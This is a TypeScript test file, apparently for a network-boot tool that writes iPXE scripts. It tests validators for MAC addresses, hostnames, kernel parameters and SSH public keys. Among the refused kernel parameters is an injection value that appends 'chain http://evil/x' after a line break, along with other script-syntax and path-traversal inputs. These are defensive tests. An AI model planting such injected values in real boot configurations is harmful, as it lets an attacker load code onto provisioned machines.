import { afterAll, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { parseClassName, parseHostName, parseKernelParam, parseMac, parsePublicKey } from "../../src/core/names.ts";
import { cleanupTempDirs, tempDir } from "../support/inventory.ts";

describe("MAC addresses", () => {
  it.each([
    ["52:54:00:12:34:56"],
    ["52-54-00-12-34-56"],
    ["5254.0012.3456"],
    ["525400123456"],
    [" 52:54:00:12:34:56 "],
  ])("reads %j as iPXE's hexhyp spelling", (input) => {
    expect(parseMac(input)).toEqual({ ok: true, value: "52-54-00-12-34-56" });
  });

  it("lower-cases hex digits", () => {
    expect(parseMac("0C:C4:7A:1E:52:1F")).toEqual({ ok: true, value: "0c-c4-7a-1e-52-1f" });
  });

  it.each([["52:54:00:12:34:5g"], ["52:54:00:12:34"], ["52:54:00:12:34:56:78"], ["5254:0012:3456"], [""], ["52:54-00:12-34:56x"]])("refuses %j with a hint", (input) => {
    const r = parseMac(input);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.hint).toContain("52:54:00:12:34:56");
  });

  it("refuses multicast, broadcast and all-zero addresses, which no NIC boots from", () => {
    expect(parseMac("01:00:5e:00:00:01").ok).toBe(false);
    expect(parseMac("ff:ff:ff:ff:ff:ff").ok).toBe(false);
    expect(parseMac("00:00:00:00:00:00").ok).toBe(false);
  });
});

describe("hostnames", () => {
  it.each(["aleph", "a", "node-01", "x".repeat(63)])("accepts %j", (n) => expect(parseHostName(n).ok).toBe(true));
  it.each(["-a", "a-", "a_b", "a.b", "x".repeat(64), "", "../etc", "a b"])("refuses %j", (n) => expect(parseHostName(n).ok).toBe(false));
  it("refuses upper case and says how to write it", () => {
    expect(parseHostName("Aleph")).toMatchObject({ ok: false, hint: 'write it as "aleph"' });
  });
});

describe("class names", () => {
  it.each(["demo", "ganeti-node", "talos.worker_2"])("accepts %j", (n) => expect(parseClassName(n).ok).toBe(true));
  it.each(["..", ".hidden", "a/b", "A", "a..b", "", "x".repeat(64), "a b"])("refuses %j (it names a folder)", (n) => expect(parseClassName(n).ok).toBe(false));
});

describe("kernel parameters written into iPXE scripts", () => {
  it.each(["console=ttyS1,19200n8", "quiet", "root=LABEL=nixos", "init=/nix/store/abc-nixos-system/init", "ip=10.0.0.2::10.0.0.1:255.255.255.0::eth0:off"])("accepts %j", (p) =>
    expect(parseKernelParam(p).ok).toBe(true),
  );
  it.each([
    ["a b", "space"],
    ["a=1\nchain http://evil/x", "line break"],
    ["x=${net0/ip}", "$"],
    // A bare `$` too, not only `${`: netbuild sets iPXE variables itself and writes none of the user's.
    ["x=$net0", "$"],
    ["price=5$", "$"],
    ["$", "$"],
    ['x="quoted"', "quote"],
    ["x='q'", "quote"],
    ["x=\\", "backslash"],
    ["x\t", "tab"],
    ["x=\u0007", "control"],
    ["a||b", "script syntax"],
    ["a&&b", "script syntax"],
    ["#comment", "script syntax"],
    [":label", "script syntax"],
    ["é=1", "non-ASCII"],
    ["", "empty"],
  ])("refuses %j (%s)", (p, why) => {
    const r = parseKernelParam(p);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.message).toContain(why);
  });
});

describe("parsePublicKey: what ssh.authorizedKeys takes", () => {
  // Real keys from OpenSSH's ssh-keygen, of every type people use.
  const dir = tempDir("netbuild-keys-");
  const key = (type: string, bits?: string) => {
    const file = path.join(dir, type);
    execFileSync("ssh-keygen", ["-q", "-t", type, ...(bits ? ["-b", bits] : []), "-N", "", "-C", "me@laptop two words", "-f", file]);
    return { pub: readFileSync(`${file}.pub`, "utf8"), priv: readFileSync(file, "utf8") };
  };
  const keys = { ed25519: key("ed25519"), rsa: key("rsa", "2048"), ecdsa: key("ecdsa", "384") };
  afterAll(() => cleanupTempDirs());

  it("takes each type's .pub line as it is, its comment with spaces too, and trims the line break", () => {
    for (const k of Object.values(keys)) {
      const r = parsePublicKey(k.pub);
      expect(r).toEqual({ ok: true, value: k.pub.trim() });
    }
  });

  it("refuses a key cut short, a key whose type is another's, a private key (never repeated), and a line with options", () => {
    const ed = keys.ed25519.pub.trim();
    const [type, data] = ed.split(" ");
    for (const cut of [`${type} ${data!.slice(0, 40)}`, `${type} ${data!.slice(0, -4)}`, `ssh-rsa ${data}`, `${type} ${keys.rsa.pub.split(" ")[1]}`]) {
      const r = parsePublicKey(cut);
      expect(r.ok, cut).toBe(false);
    }
    for (const priv of Object.values(keys).map((k) => k.priv)) {
      const r = parsePublicKey(priv);
      expect(r.ok).toBe(false);
      if (!r.ok) {
        expect(r.message).toContain("PRIVATE key");
        expect(r.message + (r.hint ?? "")).not.toContain(priv.split("\n")[1]!.slice(0, 20));
      }
    }
    const withOptions = parsePublicKey(`from="10.0.0.0/8" ${ed}`);
    expect(withOptions.ok).toBe(false);
    if (!withOptions.ok) expect(withOptions.hint).toContain("options such as from= are not taken");
    expect(parsePublicKey(`${ed}\n${ed}`).ok).toBe(false);
  });
});
